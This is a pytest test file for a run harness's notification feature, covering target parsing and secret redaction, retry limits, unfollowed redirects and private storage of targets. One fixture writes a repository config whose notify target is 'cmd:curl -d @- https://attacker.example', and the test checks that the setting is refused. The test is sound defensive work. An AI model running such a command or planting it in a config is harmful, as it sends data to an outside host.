"""Notifications (--notify): the targets and their redacted form, which event each end of a run is, that the
supervisor hands them over and goes on whatever the notifier does, and delivery with its bounded retries (to a
receiver on loopback; the report cannot be made here, so the summary's facts are sent)."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from tenacity import wait_none

from runner.base.errors import UsageError
from runner.loop.decisions import end_event
from runner.record.journal import Journal
from runner.record.models import AgentInfo, GatewayUsage, Limits, NotifyEvent, RunState, RunSummary, StopReason
from runner.record.notify import (
    forget_orphans,
    load_targets,
    notify_info,
    parse_events,
    parse_target,
    save_targets,
    targets_path,
)
from runner.record.settings import resolve
from runner.usecases.notify import SessionNotifier
from tests.helpers import GitRepo
from tests.notify_receiver import Receiver
from tests.unit.test_supervisor import Harness, crash, report, script

SLACK = "slack+https://hooks.slack.com/services/T0SECRET1/B0SECRET2/XXXXSECRETXXXX"
NTFY = "ntfy+https://alice:pa55word@ntfy.example.org:8443/my-secret-topic?auth=tok3n"


def test_each_form_of_target_is_parsed_and_shown_only_by_its_kind_and_host() -> None:
    slack, ntfy = parse_target(SLACK), parse_target(NTFY)
    assert (slack.kind, slack.url, slack.shown) == (
        "slack", "https://hooks.slack.com/services/T0SECRET1/B0SECRET2/XXXXSECRETXXXX", "slack+https://hooks.slack.com/…"
    )  # fmt: skip
    assert (ntfy.kind, ntfy.auth, ntfy.shown) == ("ntfy", ("alice", "pa55word"), "ntfy+https://ntfy.example.org:8443/…")
    assert ntfy.url == "https://ntfy.example.org:8443/my-secret-topic?auth=tok3n"  # no user and password in it
    assert parse_target("https://example.org/hook?token=abc").kind == "webhook"
    plain = parse_target("cmd:notify-send 'run ended'")
    assert (plain.argv, plain.via_shell, plain.shown) == (("notify-send", "run ended"), False, "cmd:notify-send …")
    shell = parse_target("cmd:cat > /tmp/last-report.json")
    assert (shell.argv, shell.via_shell) == (("/bin/sh", "-c", "cat > /tmp/last-report.json"), True)
    assert parse_target("cmd:FOO=1 notify").via_shell  # an assignment needs a shell too
    for secret in ("T0SECRET1", "XXXXSECRETXXXX", "pa55word", "my-secret-topic", "tok3n", "alice"):
        assert secret not in json.dumps(notify_info([SLACK, NTFY], [NotifyEvent.END]).model_dump())
        assert secret in SLACK + NTFY  # positive control: the secrets are in what was given


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("ftp://secret-host.example/tok3n", "not a notification target"),
        ("hooks.slack.com/services/T0SECRET1", "not a notification target"),
        ("https:///tok3n", "without a host"),
        ("https://example.org:99999/tok3n", "bad port"),
        ("cmd:   ", "needs a command"),
        ("cmd:echo 'tok3n", "cannot split"),
    ],
)
def test_a_bad_target_is_refused_in_one_line_that_does_not_echo_it(value: str, why: str) -> None:
    with pytest.raises(UsageError) as info:
        resolve({"notify": (value,)}, repo_top=None)
    assert why in info.value.message and "\n" not in info.value.message
    assert "tok3n" not in info.value.message and "T0SECRET1" not in info.value.message


def test_events_are_chosen_by_name_comma_separated_or_all() -> None:
    assert parse_events(["blocked,budget", "end"]) == [NotifyEvent.END, NotifyEvent.BLOCKED, NotifyEvent.BUDGET]
    assert parse_events(["all"]) == list(NotifyEvent)
    assert resolve({}, repo_top=None).settings.notify_on == ("end",)  # the default
    with pytest.raises(UsageError, match="'finished' is not an event to notify"):
        resolve({"notify_on": ("end,finished",)}, repo_top=None)


def test_a_repository_may_not_set_notification_targets(tmp_path: Path) -> None:
    (tmp_path / "harness.toml").write_text('notify = ["cmd:curl -d @- https://attacker.example"]\n')
    with pytest.raises(UsageError, match="may not be set by a repository"):
        resolve({}, repo_top=tmp_path)
    (tmp_path / "harness.toml").write_text('notify_on = ["all"]\n')  # control: the events may be
    assert resolve({}, repo_top=tmp_path).settings.notify_on == tuple(e.value for e in NotifyEvent)


def test_the_targets_as_given_are_kept_private_outside_the_journal(tmp_path: Path, harness_home: Path) -> None:
    journal = Journal(tmp_path / "journal", "s")
    journal.create("o")
    save_targets(tmp_path, "s", [SLACK], [NotifyEvent.END], journal_dir=journal.dir)
    path = targets_path(tmp_path, "s")
    assert path.is_relative_to(harness_home) and path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
    kept = load_targets(tmp_path, "s")
    assert kept is not None and kept.targets == [SLACK]
    (journal.dir / "run-summary.json").write_text("{}")  # the session lives: gc keeps its targets
    assert forget_orphans() == [] and path.exists()
    (journal.dir / "run-summary.json").unlink()  # its journal is gone (deleted by hand): gc forgets them
    assert forget_orphans() == [str(path)] and not path.exists()
    # A race's journal has race.json and no run-summary.json: while it lives, gc keeps its targets too.
    save_targets(tmp_path, "s", [SLACK], [NotifyEvent.END], journal_dir=journal.dir)
    (journal.dir / "race.json").write_text("{}")
    assert forget_orphans() == [] and path.exists()


def _summary(status: RunState, reason: StopReason | None) -> RunSummary:
    return RunSummary.model_validate({
        "sessionId": "s", "objective": "o", "maxIterations": 3, "repo": "/r", "runDir": "/d", "image": "i",
        "worktree": {"baseRef": "HEAD", "baseCommit": "0" * 40, "path": "/d/w", "branch": "harness/s"},
        "agent": AgentInfo(name="a", command=["a"]).model_dump(by_alias=True), "limits": Limits().model_dump(),
        "status": status, "stopReason": reason,
    })  # fmt: skip


@pytest.mark.parametrize(
    ("status", "reason", "event"),
    [
        (RunState.COMPLETED, StopReason.AGENT_DONE, NotifyEvent.END),
        (RunState.BLOCKED, StopReason.AGENT_BLOCKED, NotifyEvent.BLOCKED),
        (RunState.STOPPED, StopReason.MAX_COST, NotifyEvent.BUDGET),
        (RunState.STOPPED, StopReason.MAX_TOKENS, NotifyEvent.BUDGET),
        (RunState.STOPPED, StopReason.USAGE_LIMIT, NotifyEvent.USAGE_LIMIT),
        (RunState.FAILED, StopReason.REPEATED_FAILURES, NotifyEvent.FAILURES),
        (RunState.FAILED, StopReason.SETUP_FAILED, NotifyEvent.FAILURES),
        (RunState.STUCK, StopReason.NO_PROGRESS, NotifyEvent.FAILURES),
        (RunState.STOPPED, StopReason.MAX_ITERATIONS, NotifyEvent.END),
        (RunState.INTERRUPTED, StopReason.INFRASTRUCTURE, NotifyEvent.END),
    ],
)
def test_each_end_of_a_run_is_its_most_telling_event(status: RunState, reason: StopReason, event: NotifyEvent) -> None:
    assert end_event(_summary(status, reason)) is event


class Recorder:
    def __init__(self, fail: bool = False) -> None:
        self.sent: list[tuple[NotifyEvent, RunState]] = []
        self.fail = fail

    def owe(self, event: NotifyEvent, summary: RunSummary) -> None:
        return None  # nothing owed: every end is the loop's to hand over

    def send(self, event: NotifyEvent, summary: RunSummary) -> None:
        self.sent.append((event, summary.status))
        if self.fail:
            raise RuntimeError("the notifier broke")


def _run(h: Harness, notifier: Recorder) -> RunSummary:
    from runner.loop.supervisor import Supervisor

    return Supervisor(backend=h.backend, journal=h.journal, workspace=h.workspace, git=h.git, notifier=notifier).run(
        h.summary
    )


def test_the_supervisor_hands_each_end_of_the_run_to_the_notifier_once(tmp_path: Path, repo: GitRepo) -> None:
    cases = [
        (script(report("working"), report("done")), {}, (NotifyEvent.END, RunState.COMPLETED)),
        (report("blocked"), {}, (NotifyEvent.BLOCKED, RunState.BLOCKED)),
        (crash, {"max_consecutive_failures": 2}, (NotifyEvent.FAILURES, RunState.FAILED)),
    ]
    for i, (agent, limits, sent) in enumerate(cases):
        h = Harness(tmp_path / str(i), repo, agent, max_iterations=5, **limits)
        recorder = Recorder()
        _run(h, recorder)
        assert recorder.sent == [sent]
    h = Harness(tmp_path / "budget", repo, report("working"), max_iterations=5, max_cost_usd=1.0)
    h.summary.usage = GatewayUsage(requests=3, cost_usd=1.25)
    recorder = Recorder()
    _run(h, recorder)
    assert recorder.sent == [(NotifyEvent.BUDGET, RunState.STOPPED)]


def test_a_notifier_that_raises_changes_nothing_in_the_run(tmp_path: Path, repo: GitRepo) -> None:
    h = Harness(tmp_path, repo, report("done"), max_iterations=5)
    broken = Recorder(fail=True)
    result = _run(h, broken)
    assert broken.sent == [(NotifyEvent.END, RunState.COMPLETED)]  # it was called, and raised
    assert (result.status, result.stop_reason) == (RunState.COMPLETED, StopReason.AGENT_DONE)
    assert h.journal.read_summary().status is RunState.COMPLETED


def _notifier(tmp_path: Path, targets: list[str], events: list[NotifyEvent] | None = None) -> SessionNotifier:
    journal = Journal(tmp_path / "journal", "s")
    journal.create("o")
    return SessionNotifier(journal=journal, repo=tmp_path, targets=[parse_target(t) for t in targets],
                           events=events or [NotifyEvent.END], wait=wait_none())  # fmt: skip


def test_a_failing_receiver_is_tried_again_until_it_takes_the_notification(tmp_path: Path) -> None:
    with Receiver(500, 500, 200) as flaky, Receiver(404) as gone:
        notifier = _notifier(tmp_path, [f"{flaky.url}/hook?token=tok3n", f"{gone.url}/hook"])
        notifier.send(NotifyEvent.END, _summary(RunState.COMPLETED, StopReason.AGENT_DONE))
        notifier.close(30)
        assert flaky.count() == 3 and gone.count() == 1  # a 404 is not worth another attempt
    records = {r.target: r for r in notifier.journal.notifications().notifications}
    ok, refused = records[parse_target(flaky.url + "/").shown], records[parse_target(gone.url + "/").shown]
    assert (ok.attempts, ok.delivered, ok.http_status, ok.error) == (3, True, 200, None)
    assert (refused.attempts, refused.delivered, refused.http_status) == (1, False, 404)
    body = json.loads(flaky.received[-1].body)
    assert (body["event"], body["sessionId"], body["status"]) == ("end", "s", "completed")
    assert "tok3n" not in notifier.journal.notifications_path.read_text()


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_is_not_followed(tmp_path: Path, status: int) -> None:
    with Receiver() as elsewhere, Receiver(status, location=f"{elsewhere.url}/stolen") as moved:
        notifier = _notifier(tmp_path, [f"http://harness:PASSW0RD@{moved.url.removeprefix('http://')}/hook"])
        notifier.send(NotifyEvent.END, _summary(RunState.COMPLETED, StopReason.AGENT_DONE))
        notifier.close(30)
        assert moved.count() == 1 and moved.received[0].headers["authorization"].startswith("Basic ")  # control
        assert elsewhere.count() == 0  # neither the report nor the credentials went on
    (record,) = notifier.journal.notifications().notifications
    assert (record.delivered, record.http_status, record.attempts) == (False, status, 1)


def test_a_receiver_that_is_down_is_recorded_as_not_delivered(tmp_path: Path) -> None:
    with Receiver() as down:
        url = f"{down.url}/my-secret-topic"
    notifier = _notifier(tmp_path, [url.replace("http://", "ntfy+http://")])
    notifier.send(NotifyEvent.END, _summary(RunState.STOPPED, StopReason.MAX_ITERATIONS))
    notifier.close(30)
    (record,) = notifier.journal.notifications().notifications
    assert (record.attempts, record.delivered, record.event) == (3, False, NotifyEvent.END)
    assert record.error and "refused" in record.error.lower()
    assert "my-secret-topic" not in notifier.journal.notifications_path.read_text()


def test_an_event_that_is_not_selected_sends_nothing(tmp_path: Path) -> None:
    with Receiver() as receiver:
        notifier = _notifier(tmp_path, [receiver.url], [NotifyEvent.BLOCKED])
        notifier.send(NotifyEvent.END, _summary(RunState.COMPLETED, StopReason.AGENT_DONE))
        notifier.send(NotifyEvent.USAGE_LIMIT, _summary(RunState.RUNNING, None))
        notifier.close(30)
        assert receiver.count() == 0
        notifier.send(NotifyEvent.BLOCKED, _summary(RunState.BLOCKED, StopReason.AGENT_BLOCKED))  # control
        notifier.close(30)
        assert receiver.count() == 1
    with Receiver() as receiver:  # `end` selects every end, each with its own event, and no wait
        notifier = _notifier(tmp_path / "end", [receiver.url], [NotifyEvent.END])
        notifier.send(NotifyEvent.USAGE_LIMIT, _summary(RunState.RUNNING, None))
        notifier.send(NotifyEvent.BUDGET, _summary(RunState.STOPPED, StopReason.MAX_COST))
        notifier.close(30)
        assert [json.loads(r.body)["event"] for r in receiver.received] == ["budget"]


def test_a_failing_command_is_tried_again_and_its_output_kept_redacted(tmp_path: Path) -> None:
    script_path = tmp_path / "notify.py"
    script_path.write_text("import sys\nprint('posting to', sys.argv[1])\nsys.exit(3)\n")
    notifier = _notifier(tmp_path, [f"cmd:{sys.executable} {script_path} https://example.org/tok3n-path"])
    notifier.send(NotifyEvent.END, _summary(RunState.COMPLETED, StopReason.AGENT_DONE))
    notifier.close(60)
    (record,) = notifier.journal.notifications().notifications
    assert (record.attempts, record.delivered, record.exit_code) == (3, False, 3)
    assert record.output is not None and record.output.startswith("posting to [REDACTED")
    assert "tok3n" not in notifier.journal.notifications_path.read_text()


def test_sending_returns_at_once_and_the_wait_at_the_end_is_bounded(tmp_path: Path) -> None:
    from tests.helpers import wait_for

    # The command says it started, waits for the gate (at most 60 s), then says it ended: while it has not
    # ended, a send or a close that has returned did not wait for it.
    gate, started, ended, waits = (tmp_path / name for name in ("gate", "started", "ended", "wait.py"))
    waits.write_text(
        "import os, sys, time\nopen(sys.argv[2], 'w').close()\nt = time.time()\n"
        "while not os.path.exists(sys.argv[1]) and time.time() - t < 60:\n    time.sleep(0.05)\n"
        "open(sys.argv[3], 'w').close()\n"
    )
    notifier = _notifier(tmp_path, [f"cmd:{sys.executable} {waits} {gate} {started} {ended}"],
                         [NotifyEvent.USAGE_LIMIT])  # fmt: skip
    notifier.send(NotifyEvent.USAGE_LIMIT, _summary(RunState.RUNNING, None))  # a wait begins: it must not wait
    wait_for(started.exists, 30, "the notification's command to start")
    assert not ended.exists()  # send returned while the command still waits for the gate
    notifier.close(0.5)  # the end of a run waits for it, bounded
    assert not ended.exists() and notifier.journal.notifications().notifications == []
    gate.write_text("")
    notifier.close(30)
    assert ended.exists()
    (record,) = notifier.journal.notifications().notifications
    assert (record.event, record.delivered, record.attempts) == (NotifyEvent.USAGE_LIMIT, True, 1)
